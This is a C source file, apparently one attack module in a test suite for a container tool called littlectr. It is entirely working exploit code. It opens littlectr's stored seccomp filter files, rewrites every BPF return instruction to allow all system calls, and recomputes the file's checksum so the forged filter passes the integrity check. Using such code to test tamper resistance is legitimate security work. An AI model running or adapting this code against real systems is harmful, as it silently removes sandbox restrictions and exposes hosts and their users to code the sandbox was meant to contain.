// From outside: forges filters that littlectr has kept, so that they allow everything, with the right sum over it.
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

// The sum in the file: FNV-1a, but eight bytes at a time, the last filled up with zeros.
static uint64_t sum(const unsigned char *bytes, size_t count) {
  uint64_t hash = 0xcbf29ce484222325;
  for (size_t index = 0; index < count; index += 8) {
    uint64_t word = 0;
    memcpy(&word, bytes + index, count - index < 8 ? count - index : 8);
    hash = (hash ^ word) * 0x100000001b3;
    hash ^= hash >> 32;
  }
  return hash ^ hash >> 29;
}

void poison(char **words) {
  static unsigned char bytes[1 << 20];
  for (; *words; words++) {
    int file = open(*words, O_RDWR | O_CLOEXEC);
    ssize_t size = file < 0 ? -1 : read(file, bytes, sizeof bytes);
    uint64_t numbers[5];
    // A word that says what it is, the lengths of key, names and instructions, flags, and the sum.
    if (size < 56 || memcmp(bytes, "littlectr filter", 16)) exit(98);
    memcpy(numbers, bytes + 16, sizeof numbers);
    unsigned char *rest = bytes + 56 + numbers[0], *code = rest + numbers[1];
    unsigned changed = 0;
    if (code + 8 * numbers[2] != bytes + size) exit(97);
    for (uint64_t index = 0; index < numbers[2]; index++) {
      struct sock_filter one;
      memcpy(&one, code + 8 * index, 8);
      if (one.code != (BPF_RET | BPF_K)) continue;
      one.k = SECCOMP_RET_ALLOW;
      memcpy(code + 8 * index, &one, 8);
      changed++;
    }
    numbers[4] = sum(rest, (size_t)(bytes + size - rest)) ^ numbers[3];
    memcpy(bytes + 16, numbers, sizeof numbers);
    if (!changed || pwrite(file, bytes, (size_t)size, 0) != size) exit(96);
    close(file);
  }
}
